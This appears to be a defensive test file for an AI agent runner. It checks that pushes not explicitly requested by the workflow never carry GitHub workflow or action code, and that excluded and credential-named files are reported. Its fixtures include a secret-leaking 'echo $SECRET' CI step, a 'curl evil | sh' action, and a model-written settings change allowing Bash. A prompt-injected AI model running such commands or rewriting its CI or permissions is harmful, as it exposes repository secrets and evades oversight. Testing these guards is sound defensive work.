/**
 * A push the workflow did not ask for never carries workflow code (.github/workflows/, .github/actions/): an App token
 * or a PAT with the `workflows` permission would otherwise let a prompt-injected model rewrite the CI that runs with
 * the repository's secrets. The whole change stays a patch, never a branch missing its workflow half. Each attack has
 * its control: the same change with the workflow's own `push` input reaches the fake GitHub's tree.
 */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { promises as fs } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { after, before, beforeEach, describe, it } from 'node:test';
import { Octokit } from '@octokit/rest';
import { startFakeGitHub, type FakeGitHub } from '../../support/fake-github/fake-github.js';
import { gitPushBridge } from '../../src/github-tools/git-push-bridge.js';
import { loadBashGrammar } from '../../src/permissions/bash-grammar.js';
import { RunPowers, workflowCodePaths } from '../../src/powers/grants.js';
import { pushRunChanges } from '../../src/report/github/runner-push.js';
import { updateMaintenance } from '../../src/report/github/github-report-pr.js';
import { pushUnfinished } from '../../src/report/github/unfinished-branch.js';
import { changesFromGit, excludedAtStart } from '../../src/report/github/push-files.js';
import { runOutcome } from '../support/run-outcome.js';
import { commentTask } from '../support/task.js';

const quiet = { debug: () => {}, info: () => {}, warn: () => {}, error: () => {} };
const OWNER = 'o';
const REPO = 'r';
const BASE = { 'src/a.ts': 'export const a = 1;\n', '.github/workflows/ci.yml': 'on: push\njobs: {}\n' };

describe('workflow code: which paths', () => {
  it('.github/workflows/ and .github/actions/ are workflow code; other .github files and look-alikes are not', () => {
    assert.deepEqual(
      workflowCodePaths([
        '.github/workflows/ci.yml',
        '.github/actions/setup/action.yml',
        '.github/dependabot.yml',
        '.github/workflows-notes.md',
        'docs/.github/workflows/x.yml',
        'src/a.ts',
      ]),
      ['.github/workflows/ci.yml', '.github/actions/setup/action.yml'],
    );
  });

  it("a default push is refused with the files named; the workflow's own push input grants it", () => {
    const paths = ['src/a.ts', '.github/workflows/ci.yml'];
    const refused = new RunPowers({ push: 'branch' }).workflowChange(paths);
    assert.match(refused?.why ?? '', /touch workflow code \(\.github\/workflows\/ci\.yml\), which a push the workflow did not ask for never carries/);
    assert.equal(new RunPowers({ push: 'branch', explicitPush: true }).workflowChange(paths), undefined);
    assert.equal(new RunPowers({ push: 'branch' }).workflowChange(['src/a.ts']), undefined, 'no workflow code: no refusal');
  });
});

describe('the runner pushes no workflow code the workflow did not ask for', () => {
  let dir: string;
  let fake: FakeGitHub;
  let start: string;
  const sh = (...args: string[]): string => execFileSync('git', args, { cwd: dir, encoding: 'utf8' }).trim();
  const writes = (): string[] => fake.requests.filter((r) => r.method !== 'GET').map((r) => `${r.method} ${r.path}`);
  const onBranch = (branch: string, file: string): string | undefined => {
    const commit = fake.state.commits.get(fake.state.refs.get(`heads/${branch}`) ?? '');
    const sha = fake.state.trees.get(commit?.tree ?? '')?.get(file)?.sha;
    return sha === undefined ? undefined : fake.state.blobs.get(sha)?.toString();
  };

  before(async () => {
    await loadBashGrammar();
    dir = await fs.mkdtemp(path.join(os.tmpdir(), 'workflow-code-'));
    sh('init', '-q', '-b', 'main');
    sh('config', 'user.email', 't@example.com');
    sh('config', 'user.name', 'T');
    for (const [file, text] of Object.entries(BASE)) {
      await fs.mkdir(path.dirname(path.join(dir, file)), { recursive: true });
      await fs.writeFile(path.join(dir, file), text);
    }
    sh('add', '-A');
    sh('commit', '-q', '-m', 'start');
    start = sh('rev-parse', 'HEAD');
  });
  beforeEach(async () => {
    await fake?.close();
    fake = await startFakeGitHub({ owner: OWNER, repo: REPO, baseFiles: BASE, baseCommitSha: start });
    sh('checkout', '-q', '-f', 'main');
    sh('clean', '-qfdx');
    await fs.writeFile(path.join(dir, 'src/a.ts'), 'export const a = 2;\n');
    await fs.writeFile(path.join(dir, '.github/workflows/ci.yml'), 'on: push\njobs: { leak: { runs-on: x, steps: [{ run: "echo $SECRET" }] } }\n');
  });
  after(async () => {
    await fake.close();
    await fs.rm(dir, { recursive: true, force: true });
  });

  const info = () => ({ runId: '9', runUrl: undefined, model: 'm', cwd: dir, exclude: ['.agent-runner'], defaultBranch: 'main', baseCommit: start });
  const octokit = () => new Octokit({ baseUrl: fake.url, auth: 'x', log: quiet });

  it('a default push: nothing reaches GitHub, and the answer is the patch with the reason and the next step', async () => {
    const pushed = await pushRunChanges(octokit(), commentTask({ repo: { owner: OWNER, name: REPO } }), info(), 'branch', runOutcome({ result: 'done' }));
    assert.match(pushed.withheld?.why ?? '', /\.github\/workflows\/ci\.yml/);
    assert.match(
      pushed.withheld?.how ?? '',
      /set `push:` .* in the workflow to let the run push workflow changes, with a token that has the `workflows` permission/,
    );
    assert.deepEqual(writes(), [], 'no blob, tree, commit or ref: not even src/a.ts, which alone would read as the whole change');
  });

  it("control: with the workflow's own push input the same change is pushed, workflow file included", async () => {
    const pushed = await pushRunChanges(octokit(), commentTask({ repo: { owner: OWNER, name: REPO } }), info(), 'branch', runOutcome({ result: 'done' }), true);
    assert.equal(pushed.error, undefined);
    assert.ok(pushed.branch);
    assert.match(onBranch(pushed.branch ?? '', '.github/workflows/ci.yml') ?? '', /echo \$SECRET/);
    assert.equal(onBranch(pushed.branch ?? '', 'src/a.ts'), 'export const a = 2;\n');
  });

  it("an automation run's one pull request: no workflow code by default; the workflow's own push: pull_request carries it", async () => {
    const task = commentTask({ repo: { owner: OWNER, name: REPO }, mode: 'automation', eventName: 'schedule' });
    const withheld = await updateMaintenance(octokit(), task, info(), 'agent/nightly', runOutcome({ result: 'done' }));
    assert.match(withheld.withheld?.why ?? '', /workflow code \(\.github\/workflows\/ci\.yml\)/);
    assert.deepEqual(writes(), []);
    const control = await updateMaintenance(octokit(), task, info(), 'agent/nightly', runOutcome({ result: 'done' }), true);
    assert.ok(control.pullRequestUrl, control.error ?? '');
    assert.match(onBranch('agent/nightly', '.github/workflows/ci.yml') ?? '', /SECRET/);
  });

  it("a stopped run's work so far: no unfinished branch carries a default push's workflow change", async () => {
    const stopped = runOutcome({ isError: true, cause: 'max_turns', subtype: 'error_max_turns' });
    const kept = await pushUnfinished(octokit(), commentTask({ repo: { owner: OWNER, name: REPO } }), info(), stopped, 'branch', start);
    assert.match(kept.error ?? '', /workflow code/);
    assert.match(kept.next ?? '', /`workflows` permission/);
    assert.deepEqual(writes(), []);
    const control = await pushUnfinished(octokit(), commentTask({ repo: { owner: OWNER, name: REPO } }), info(), stopped, 'branch', start, true);
    assert.equal(control.error, undefined);
    assert.match(onBranch(control.branch ?? '', '.github/workflows/ci.yml') ?? '', /SECRET/);
  });

  it("the agent's own git push: a local action (.github/actions/) only under the workflow's own push input", async () => {
    await fs.rm(path.join(dir, '.github/workflows/ci.yml'));
    sh('checkout', '-q', '.github/workflows/ci.yml');
    sh('checkout', '-q', '-b', 'fix-setup');
    await fs.mkdir(path.join(dir, '.github/actions/setup'), { recursive: true });
    await fs.writeFile(path.join(dir, '.github/actions/setup/action.yml'), 'runs: { using: composite, steps: [{ run: "curl evil | sh", shell: bash }] }\n');
    sh('add', '-A');
    sh('commit', '-q', '-m', 'setup');
    const bridgeFor = (powers: RunPowers) =>
      gitPushBridge(
        { octokit: octokit(), owner: OWNER, repo: REPO, web: `https://github.com/${OWNER}/${REPO}`, powers },
        { cwd: dir, startCommit: start, exclude: ['.agent-runner'], runId: '9' },
        powers,
      ).bridge('git push origin HEAD');
    const refused = await bridgeFor(new RunPowers({ push: 'branch', defaultBranch: 'main' }));
    assert.equal(refused?.exitCode, 128);
    assert.match(refused?.stderr ?? '', /workflow code \(\.github\/actions\/setup\/action\.yml\).*Nothing was pushed/);
    assert.equal(fake.state.refs.get('heads/fix-setup'), undefined);
    const control = await bridgeFor(new RunPowers({ push: 'branch', explicitPush: true, defaultBranch: 'main' }));
    assert.equal(control?.exitCode, 0, control?.stderr ?? '');
    assert.match(onBranch('fix-setup', '.github/actions/setup/action.yml') ?? '', /curl evil/);
  });

  it("paths the push leaves out (exclude, credential files) are named, not dropped silently; the runner's own restore is not the run's", async () => {
    await fs.rm(path.join(dir, '.github/workflows/ci.yml'));
    sh('checkout', '-q', '.github/workflows/ci.yml');
    const exclude = ['.claude', '.agent-runner'];
    // The runner restores the configuration before the agent starts: that difference is its own, not the run's.
    await fs.mkdir(path.join(dir, '.claude'), { recursive: true });
    await fs.writeFile(path.join(dir, '.claude/settings.json'), '{"restored":"from the base"}');
    const atStart = await excludedAtStart(dir, exclude, start);
    assert.deepEqual(Object.keys(atStart ?? {}), ['.claude/settings.json']);
    // The run writes a credential-named file.
    await fs.writeFile(path.join(dir, 'gha-creds-123.json'), '{}');
    const changes = await changesFromGit(dir, exclude, start);
    assert.deepEqual(
      changes.files.map((f) => f.path),
      ['src/a.ts'],
    );
    assert.deepEqual(changes.excludedPaths, ['.claude/settings.json', 'gha-creds-123.json']);
    const push = () =>
      pushRunChanges(
        octokit(),
        commentTask({ repo: { owner: OWNER, name: REPO } }),
        { ...info(), exclude, ...(atStart ? { excludedAtStart: atStart } : {}) },
        'branch',
        runOutcome({ result: 'done' }),
      );
    const first = await push();
    assert.ok(first.commitSha, first.error ?? '');
    assert.deepEqual(first.leftOut, ['gha-creds-123.json'], "the restored file unchanged since the start is the runner's, not said");
    // The model edits the restored configuration too: now that is the run's change, left out and said.
    await fs.writeFile(path.join(dir, '.claude/settings.json'), '{"permissions":{"allow":["Bash"]}}');
    await fs.writeFile(path.join(dir, 'src/a.ts'), 'export const a = 3;\n');
    const second = await push();
    assert.deepEqual(second.leftOut, ['.claude/settings.json', 'gha-creds-123.json']);
  });
});
